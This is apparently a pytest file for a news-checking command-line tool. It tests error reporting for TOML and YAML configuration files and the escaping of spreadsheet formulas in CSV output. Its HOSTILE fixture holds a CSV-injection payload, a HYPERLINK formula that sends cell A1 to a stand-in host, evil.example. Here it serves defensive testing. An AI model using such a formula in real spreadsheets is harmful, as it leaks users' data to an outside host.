"""Reliability leftovers of issue 15: no pandas deprecation on the rules path,
every problem of every file even after a syntax error, and a statement-table
CSV that a spreadsheet cannot run."""

from __future__ import annotations

import csv
import io
import warnings

import pytest

from cli_helpers import run, story_in, write

# both counts hedged: a group with no exact pair (the rules path that warned)
HEDGED_A = "About 80 people were injured in the blast at the depot, officials said.\n"
HEDGED_B = "More than 70 people were injured in the blast at the depot, police said.\n"


@pytest.fixture
def story(tmp_path, monkeypatch):
    return story_in(tmp_path, monkeypatch, {"a.txt": HEDGED_A, "b.txt": HEDGED_B})


# ---------------------------------------------------------------- (c) pandas FutureWarning

def test_no_pandas_future_warning_on_the_rules_path(story):
    """pandas 2.2 warns when a reindexed bool column is filled (a silent downcast);
    as an error, the warning is an internal error of the run."""
    write(story / "story" / "c.txt", "Acme paid $3.2 billion. Nearly 90 people work there.\n")
    write(story / "story" / "d.txt", "Acme paid about $3 billion. Some 85 people work there.\n")
    with warnings.catch_warnings():
        warnings.simplefilter("error", FutureWarning)
        code, out, err = run("check", "story", "-o", "r.md")
    assert "internal error" not in err, err
    assert code in (0, 1), out + err


# ---------------------------------------------------------------- (a) every problem, after a syntax error

def _problems(result) -> list[str]:
    code, out, err = result
    assert code == 2, out + err
    assert "Traceback" not in err and "internal error" not in err, err
    lines = err.splitlines()
    assert all(line.startswith("checker: error: ") for line in lines), err
    return lines


def _has(lines: list[str], where: str, word: str) -> bool:
    return any(f"{where}:" in line and word in line for line in lines)


def test_a_toml_syntax_error_still_reports_the_other_keys_and_the_rule_files(story):
    write(story / "checker.toml", '[checker]\nfail_on = never\nformatz = ["json"]\nrules = ["rules"]\n')
    write(story / "rules" / "x.yaml", "id: money-amount\nkinds: [money\ncomparator: exact\n")
    write(story / "rules" / "y.yaml", "id: count-value\nkinds: [count]\ncomparator: exact\nlevle: error\n")
    write(story / "rules" / "lexicon-z.yaml", "synonyms: [bid, offer]\n")
    lines = _problems(run("check", "story"))
    expected = [("checker.toml:2", "TOML syntax error"), ("checker.toml:3", "'formatz'"),
                ("rules/lexicon-z.yaml:1", "'synonyms' must be a mapping"),
                ("rules/x.yaml:3", "YAML syntax error"), ("rules/y.yaml:4", "'levle'")]
    for where, word in expected:
        assert any(where in line and word in line for line in lines), (where, word, lines)
    assert len(lines) == len(expected), lines


def test_an_unclosed_toml_array_is_one_problem_not_a_cascade(story):
    """The lines after an unclosed bracket are not each reported: one syntax
    error, and the keys before it still checked."""
    write(story / "checker.toml", '[checker]\nfail_onn = "never"\nformats = [\n"markdown"\nreports = "r"\n'
          'baseline = "b.yaml"\n')
    lines = _problems(run("check", "story"))
    assert len(lines) == 2, lines
    assert "checker.toml:2: unknown key 'fail_onn'" in lines[0], lines
    assert "checker.toml:" in lines[1] and "TOML syntax error" in lines[1], lines


def test_a_yaml_syntax_error_in_a_rule_file_keeps_the_config_problems(story):
    write(story / "checker.toml", '[checker]\nfail_on = "sometimes"\nrules = ["rules"]\n')
    write(story / "rules" / "x.yaml", "id: money-amount\nkinds: [money]\ncomparator: exact\nparams: {a: [1}\n")
    lines = _problems(run("check", "story"))
    assert len(lines) == 2, lines
    assert _has(lines, "checker.toml:2", "fail_on") and _has(lines, "rules/x.yaml:4", "YAML syntax error"), lines


# ---------------------------------------------------------------- (b) CSV for spreadsheets

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click") Acme paid $3.2 billion for Globex.\n'
    "@AcmeCorp said 1,200 people work at the Springfield plant.\n"
    "-40% was the fall in Globex shares this year, the exchange said.\n"
    "+7 points was the rise in the rating, analysts said.\n"
    "The board approved the plan on Friday.\n"
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_extract_csv_cells_never_start_a_spreadsheet_formula(story):
    write(story / "h" / "a.txt", HOSTILE)
    code, out, err = run("extract", "h/a.txt", "--format", "csv")
    assert code == 0, out + err
    rows = _csv(out)
    cells = [cell for row in rows for cell in row.values()]
    for cell in cells:
        if cell.startswith(TRIGGERS):  # a plain number is safe: Excel reads it as a number
            assert cell in ("-40.0", "-40%"), repr(cell)
    sentences = {row["line"]: row["sentence"] for row in rows if row["kind"] == "statement"}
    assert sentences["1"].startswith("'=HYPERLINK(")
    assert sentences["2"] == "'@AcmeCorp said 1,200 people work at the Springfield plant."
    assert sentences["3"].startswith("'-40% was the fall")
    assert sentences["4"].startswith("'+7 points")
    assert sentences["5"] == "The board approved the plan on Friday."  # untouched
    [pct] = [row for row in rows if row["kind"] == "percent"]
    assert (pct["value"], pct["raw"]) == ("-40.0", "-40%")  # numbers stay numbers


def test_extract_json_keeps_the_text_as_written(story):
    write(story / "h" / "a.txt", HOSTILE)
    code, out, err = run("extract", "h/a.txt", "--format", "json")
    assert code == 0, out + err
    assert '"=HYPERLINK(' in out and "\"'=" not in out and "\"'@" not in out
